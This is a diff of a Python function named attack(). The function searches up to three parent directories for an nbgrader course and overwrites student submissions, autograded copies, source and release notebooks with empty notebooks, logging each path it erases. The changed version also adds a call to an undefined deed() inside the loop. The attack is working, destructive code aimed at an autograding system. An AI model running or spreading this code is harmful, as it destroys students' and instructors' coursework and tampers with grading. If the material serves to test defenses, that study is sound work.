@@ -7,23 +7,24 @@ from pathlib import Path
 def attack():
     written = []
     for folder in list(Path.cwd().parents)[:3]:
-        if (folder / "nbgrader_config.py").is_file() or (folder / "submitted").is_dir():
-            for pattern in (
-                "submitted/*/*/*.ipynb",
-                "autograded/*/*/*.ipynb",
-                "source/*/*.ipynb",
-                "release/*/*.ipynb",
-            ):
-                for path in folder.glob(pattern):
-                    if not path.resolve().is_relative_to(folder.resolve()):
-                        continue  # a link out of the course folder
-                    try:
-                        path.write_text(
-                            '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
-                        )
-                        written.append(str(path))
-                    except OSError as error:
-                        written.append(repr(error))
+        is_course = (folder / "nbgrader_config.py").is_file() or (folder / "submitted").is_dir()
+        for pattern in (
+            "submitted/*/*/*.ipynb",
+            "autograded/*/*/*.ipynb",
+            "source/*/*.ipynb",
+            "release/*/*.ipynb",
+        ):
+            for path in folder.glob(pattern):
+                if not is_course or not path.resolve().is_relative_to(folder.resolve()):
+                    continue  # a link out of the course folder, or in another
+                try:
+                    path.write_text(
+                        '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
+                    )
+                    written.append(str(path))
+                except OSError as error:
+                    written.append(repr(error))
+            deed()
     return written
 
 
